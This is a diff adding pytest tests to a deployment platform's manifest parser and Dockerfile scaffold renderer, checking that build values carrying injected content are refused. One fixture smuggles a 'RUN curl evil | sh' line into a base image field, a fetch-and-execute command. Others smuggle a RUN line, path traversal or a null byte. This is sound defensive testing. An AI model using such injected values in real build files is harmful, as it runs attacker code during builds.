@@ -90,3 +90,28 @@ def test_schema_lists_every_section() -> None:
     schema = manifest_schema()
     assert {"name", "runtime", "port", "health", "build", "env", "scale", "resources", "hosts", "registry"} <= set(schema["properties"])
     assert schema["additionalProperties"] is False
+
+
+@pytest.mark.parametrize(("build", "key"), [
+    ({"base_image": "python:3.12\nRUN curl evil | sh"}, "build.base_image"),
+    ({"base_image": "python:3.12 AS x"}, "build.base_image"),
+    ({"platform": "linux/amd64\nRUN x"}, "build.platform"),
+    ({"frontend": "../elsewhere"}, "build.frontend"),
+    ({"frontend": "web\nRUN x"}, "build.frontend"),
+    ({"args": {"A B": "1"}}, "build.args"),
+    ({"args": {"A": "x\x00"}}, "build.args.A"),
+])
+def test_values_bound_for_a_dockerfile_are_one_word(build: dict, key: str) -> None:
+    with pytest.raises(PlatError) as err:
+        parse_manifest({"name": "x", "build": build}, F)
+    assert key in err.value.message
+
+
+def test_the_scaffold_renderer_refuses_what_plat_yaml_would_have(tmp_path: Path) -> None:
+    from plat.build.context import check_dockerfile_values
+
+    check_dockerfile_values({"app": "shop", "base_image": "registry:5000/py@sha256:" + "a" * 64, "port": 8080,
+                             "images": {"node": "node:20-slim"}, "frontend": None, "files": frozenset({"a b"})})
+    for bad in ({"base_image": "py\nRUN x"}, {"images": {"node": "node $X"}}, {"frontend": "a'b"}):
+        with pytest.raises(PlatError, match="cannot go into a Dockerfile"):
+            check_dockerfile_values(bad)
